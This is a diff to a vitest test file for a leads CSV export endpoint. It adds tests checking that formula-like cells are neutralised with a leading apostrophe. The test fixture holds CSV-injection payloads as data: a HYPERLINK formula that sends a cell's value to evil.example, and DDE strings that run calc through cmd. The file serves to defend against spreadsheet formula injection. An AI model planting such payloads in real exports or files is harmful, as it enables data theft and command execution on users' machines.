@@ -1,7 +1,8 @@
 import { describe, expect, it } from "vitest";
 import { call, callJson, env, provisionAccount } from "../helpers";
 import { addLeads, createCampaign, ingestOk } from "./fixtures";
-import { csvField, EXPORT_PAGE_SIZE } from "../../src/campaigns/export-routes";
+import { EXPORT_PAGE_SIZE } from "../../src/campaigns/export-routes";
+import { csvField } from "../../src/platform/csv";
 
 const HEADER =
   "id,campaign_lead_map_id,status,category,is_interested,created_at,first_name,last_name,email,phone_number,company_name,website,location,custom_fields,linkedin_profile,company_url,is_unsubscribed,unsubscribed_client_id_map,last_email_sequence_sent,open_count,click_count,reply_count\r\n";
@@ -11,7 +12,7 @@ async function recordRow(recordId: number) {
 }
 
 describe("GET /campaigns/{id}/leads-export", () => {
-  it("writes the exact CSV: header, one row per record, RFC 4180 quoting, CRLF, values unaltered", async () => {
+  it("writes the exact CSV: header, one row per record, RFC 4180 quoting, CRLF, formulas neutralised", async () => {
     const account = await provisionAccount();
     const campaign = await createCampaign(account.apiKey);
     const upload = await callJson<{ emailToLeadIdMap: Record<string, number> }>(`/api/v1/campaigns/${campaign}/leads`, {
@@ -55,7 +56,7 @@ describe("GET /campaigns/{id}/leads-export", () => {
     const iso = (ms: number) => new Date(ms).toISOString();
     expect(text).toBe(
       HEADER +
-        `${a.lead_id},${ann},COMPLETED,Interested,true,${iso(a.created_at)},"Ann ""The Boss""","O'Neil, Jr.",ann@csv.example,+33 1 23 45 67 89,"Line\r\nBreak Ltd","=HYPERLINK(""x"")",,"{""tier"":""gold"",""note"":""a,b""}",,,false,,2,2,1,1\r\n` +
+        `${a.lead_id},${ann},COMPLETED,Interested,true,${iso(a.created_at)},"Ann ""The Boss""","O'Neil, Jr.",ann@csv.example,+33 1 23 45 67 89,"Line\r\nBreak Ltd","'=HYPERLINK(""x"")",,"{""tier"":""gold"",""note"":""a,b""}",,,false,,2,2,1,1\r\n` +
         `${b.lead_id},${bob},DRAFTED,,false,${iso(b.created_at)},,,bob@csv.example,,,,,,,,false,,,0,0,0\r\n`,
     );
   });
@@ -96,6 +97,45 @@ describe("GET /campaigns/{id}/leads-export", () => {
       '"a\nb"',
       '"a\rb"',
       "+1",
+    ]);
+  });
+
+  it("neutralises every cell a spreadsheet would run as a formula (OWASP: a leading ')", async () => {
+    const account = await provisionAccount();
+    const campaign = await createCampaign(account.apiKey);
+    const hostile = {
+      email: "eve@csv.example",
+      first_name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      last_name: "+1+cmd|' /C calc'!A0",
+      company_name: "@SUM(1+1)*cmd|' /C calc'!A0",
+      website: "-2+3+cmd|' /C calc'!A0",
+      location: "\t=1+1",
+      linkedin_profile: "\r=1+1",
+      company_url: "ok =1+1",
+      phone_number: "+15551234567",
+    };
+    await callJson(`/api/v1/campaigns/${campaign}/leads`, { method: "POST", apiKey: account.apiKey, body: { lead_list: [hostile] } });
+    const text = await (await call(`/api/v1/campaigns/${campaign}/leads-export`, { apiKey: account.apiKey })).text();
+    const row = text.split("\r\n")[1]!;
+    expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",'+1+cmd|' /C calc'!A0,`);
+    expect(row).toContain(`,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,'\t=1+1,`);
+    expect(row).toContain(`,"'\r=1+1",ok =1+1,`);
+    // Digits, spaces and + - ( ) . alone call nothing (no function, reference or command): phone numbers stay as written.
+    expect(row).toContain(",eve@csv.example,+15551234567,");
+    expect(["=1", "+x", "-x", "@a", "\tx", "\rx", "-1", "+44 (0) 20-7946.0958", "-0.5", "1e3", "+1e3", "=1+1", "+1+1"].map(csvField)).toEqual([
+      "'=1",
+      "'+x",
+      "'-x",
+      "'@a",
+      "'\tx",
+      `"'\rx"`,
+      "-1",
+      "+44 (0) 20-7946.0958",
+      "-0.5",
+      "1e3",
+      "'+1e3",
+      "'=1+1",
+      "+1+1",
     ]);
   });
 });
